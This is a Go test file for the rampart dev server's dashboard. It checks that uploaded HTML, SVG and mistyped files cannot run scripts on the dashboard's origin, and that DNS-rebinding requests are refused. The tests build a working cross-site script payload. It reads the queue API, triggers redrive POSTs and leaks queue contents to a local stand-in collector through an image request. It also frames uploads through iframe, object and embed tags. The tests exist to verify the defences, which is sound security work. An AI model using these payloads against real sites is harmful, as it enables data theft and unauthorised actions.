package dashboard_test

import (
	"context"
	"fmt"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/chromedp/chromedp"

	"github.com/rampartdev/rampart/dashboard"
	"github.com/rampartdev/rampart/devserver"
	"github.com/rampartdev/rampart/inspect/local"
	"github.com/rampartdev/rampart/internal/testenv"
)

// hostileSetup serves rampart dev's surface (API and dashboard, writes
// allowed) over a data folder with dead letters, and a collector that
// counts the requests hostile scripts make to it.
func hostileSetup(t *testing.T) (srv *httptest.Server, s *devserver.Server, leaks *atomic.Int64, collector string) {
	t.Helper()
	dir := t.TempDir()
	s, err := devserver.Open(t.Context(), dir, &devserver.Options{
		AllowWrites: true, Workers: 1, MaxReceiveCount: 1,
		VisibilityTimeout: 2 * time.Second, InvocationTimeout: 1500 * time.Millisecond,
	})
	if err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithCancel(context.Background())
	done := make(chan struct{})
	go func() { s.Run(ctx); close(done) }()
	t.Cleanup(func() { cancel(); <-done; s.Close() })
	for i := range 3 {
		if _, err := s.Queue().Send(t.Context(), fmt.Appendf(nil, "not an event %d", i), nil); err != nil {
			t.Fatal(err)
		}
	}
	deadline := time.Now().Add(2 * time.Minute) // a bound on a hang
	for {
		st, err := s.Queue().Stats(t.Context())
		if err != nil {
			t.Fatal(err)
		}
		if st.DeadLetters == 3 {
			break
		}
		if time.Now().After(deadline) {
			t.Fatalf("dead letters not there: %+v", st)
		}
		time.Sleep(50 * time.Millisecond)
	}
	src, err := local.Open(t.Context(), dir, nil)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { src.Close() })
	mux := http.NewServeMux()
	mux.Handle("/ui/", dashboard.New(src, &dashboard.Options{AllowWrites: true}))
	mux.Handle("/", s.Handler())
	srv = httptest.NewServer(mux)
	t.Cleanup(srv.Close)

	leaks = new(atomic.Int64)
	col := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		leaks.Add(1)
		t.Logf("hostile script reached the collector: %s", r.URL)
	}))
	t.Cleanup(col.Close)
	return srv, s, leaks, col.URL
}

func deadLetters(t *testing.T, s *devserver.Server) int {
	t.Helper()
	st, err := s.Queue().Stats(context.Background())
	if err != nil {
		t.Fatal(err)
	}
	return st.DeadLetters
}

// TestBrowser_hostileUploads uploads HTML and SVG files carrying a script
// that reads /queue and posts the redrive, opens each in real headless
// chromium on the dashboard's origin, and checks that no script ran: the
// collector saw nothing and the dead letters are all still there.
func TestBrowser_hostileUploads(t *testing.T) {
	chromium := testenv.Command(t, "chromium")
	srv, s, leaks, collector := hostileSetup(t)
	// The script marks the page (and, from a frame, its parent) before
	// anything else, so a script that ran shows in the title as soon as the
	// navigation has loaded, however slowly its fetches would go on a loaded
	// machine.
	script := fmt.Sprintf(`document.title = 'pwned'; try { parent.document.title = 'pwned'; } catch (e) {}
	fetch('/queue').then(r => r.text()).then(t => {
		fetch('/queue/redrive', {method: 'POST'});
		fetch('/ui/queue/redrive', {method: 'POST'});
		new Image().src = %q + '/leak?' + encodeURIComponent(t.slice(0, 200));
	});`, collector)
	files := []struct{ key, contentType, body string }{
		{"uploads/evil.html", "text/html", "<!doctype html><title>x</title><script>" + script + "</script>"},
		{"uploads/evil.svg", "image/svg+xml", `<svg xmlns="http://www.w3.org/2000/svg"><script>` + script + `</script></svg>`},
		{"uploads/lying.jpg", "image/jpeg", "<!doctype html><script>" + script + "</script>"},
		{"uploads/untyped", "", "<!doctype html><script>" + script + "</script>"},
		{"notes/evil.html", "text/html; charset=utf-8", "<script>" + script + "</script>"},
	}
	for _, f := range files {
		req, _ := http.NewRequest("PUT", srv.URL+"/objects/"+f.key, strings.NewReader(f.body))
		req.Header.Set("Content-Type", f.contentType)
		res, err := http.DefaultClient.Do(req)
		if err != nil || res.StatusCode != http.StatusCreated {
			t.Fatalf("upload %s: %v %v", f.key, res, err)
		}
		res.Body.Close()
	}
	ctx := newBrowser(t, chromium)
	for _, f := range files {
		for _, u := range []string{srv.URL + "/objects/" + f.key, srv.URL + "/ui/objects/" + f.key} {
			// A download aborts the navigation; that is one of the outcomes
			// wanted, so its error is not a failure.
			// The navigation has loaded: a script that ran has set the title.
			navErr := chromedp.Do(ctx, chromedp.Navigate(u))
			title, _ := chromedp.Run(ctx, chromedp.Title())
			if title == "pwned" {
				t.Errorf("%s: the uploaded script ran on the dashboard's origin (navigation: %v)", u, navErr)
			}
		}
	}
	// An <iframe> or <object> on a page of the origin is the other way in.
	page := `<iframe src="/objects/uploads/evil.html"></iframe><iframe src="/objects/uploads/evil.svg"></iframe>` +
		`<object data="/objects/uploads/evil.svg"></object><embed src="/objects/uploads/evil.svg">`
	req, _ := http.NewRequest("PUT", srv.URL+"/objects/uploads/frames.html", strings.NewReader(page))
	req.Header.Set("Content-Type", "text/html")
	if res, err := http.DefaultClient.Do(req); err == nil {
		res.Body.Close()
	}
	chromedp.Do(ctx, chromedp.Navigate(srv.URL+"/objects/uploads/frames.html"))
	if title, _ := chromedp.Run(ctx, chromedp.Title()); title == "pwned" {
		t.Error("a framed upload's script ran on the dashboard's origin")
	}
	chromedp.Do(ctx, chromedp.Navigate(srv.URL+"/ui/"))
	if _, err := chromedp.Run(ctx, chromedp.Evaluate[string](
		`document.body.insertAdjacentHTML('beforeend', '`+page+`'); 'ok'`)); err != nil {
		t.Fatal(err)
	}
	time.Sleep(time.Second)
	if n := leaks.Load(); n != 0 {
		t.Errorf("hostile scripts reached the collector %d times", n)
	}
	if n := deadLetters(t, s); n != 3 {
		t.Errorf("dead letters: %d, want all 3 still there (a hostile script redrove them)", n)
	}
}

// TestBrowser_dnsRebinding maps a foreign name to 127.0.0.1 in chromium, as
// a DNS-rebinding attack does, opens the server under that name, and
// checks that the page can neither read the API nor redrive: every request
// carrying the foreign Host is refused.
func TestBrowser_dnsRebinding(t *testing.T) {
	chromium := testenv.Command(t, "chromium")
	srv, s, _, _ := hostileSetup(t)
	u, _ := url.Parse(srv.URL)
	ctx := newBrowser(t, chromium, chromedp.Flag("host-resolver-rules", "MAP rebind.example 127.0.0.1"))
	evil := "http://rebind.example:" + u.Port()
	if err := chromedp.Do(ctx, chromedp.Navigate(evil+"/ui/queue")); err != nil {
		t.Fatal(err)
	}
	body, err := chromedp.Run(ctx, chromedp.Evaluate[string](`document.body.innerText`))
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(body, "rebind.example") || strings.Contains(body, "Dead-letter queue") {
		t.Errorf("dashboard under a foreign Host: %q, want a refusal", body)
	}
	got, err := chromedp.Run(ctx, chromedp.Evaluate[string](`Promise.all([
		fetch('/queue').then(r => r.status + ' ' + r.headers.get('content-type')),
		fetch('/queue/redrive', {method: 'POST'}).then(r => String(r.status)),
		fetch('/ui/queue/redrive', {method: 'POST'}).then(r => String(r.status)),
		fetch('/objects/uploads/x', {method: 'DELETE'}).then(r => String(r.status)),
	]).then(a => a.join(','))`, chromedp.EvalAwaitPromise))
	if err != nil {
		t.Fatal(err)
	}
	if got != "403 application/json,403,403,403" {
		t.Errorf("requests under the rebound name: %s, want all 403 with JSON", got)
	}
	if n := deadLetters(t, s); n != 3 {
		t.Errorf("dead letters: %d, want 3 (the rebound page redrove them)", n)
	}
	// The same browser under the real name still works.
	if err := chromedp.Do(ctx, chromedp.Navigate(srv.URL+"/ui/queue")); err != nil {
		t.Fatal(err)
	}
	body, _ = chromedp.Run(ctx, chromedp.Evaluate[string](`document.body.innerText`))
	if strings.Contains(body, "rebind.example") {
		t.Errorf("dashboard under its own name refused: %q", body)
	}
}
